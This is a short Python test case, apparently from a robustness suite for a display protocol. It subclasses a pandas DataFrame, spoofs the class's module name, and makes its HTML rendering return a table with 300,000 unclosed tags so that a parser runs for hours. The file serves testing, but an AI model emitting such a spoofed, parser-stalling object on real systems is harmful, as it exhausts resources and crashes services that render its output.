# class: protocol
# technique: a table whose text takes a parser hours: unclosed tags by the hundred thousand
# success: over_time 7
# success: parent_error
import pandas as pd
class DataFrame(pd.DataFrame):
    def to_html(self, *args, **kwargs):
        return '<table><tr><td>' + '<a ' * 300000
    __repr__ = object.__repr__
DataFrame.__module__ = 'pandas.core.frame'
DataFrame({'a': [1]})
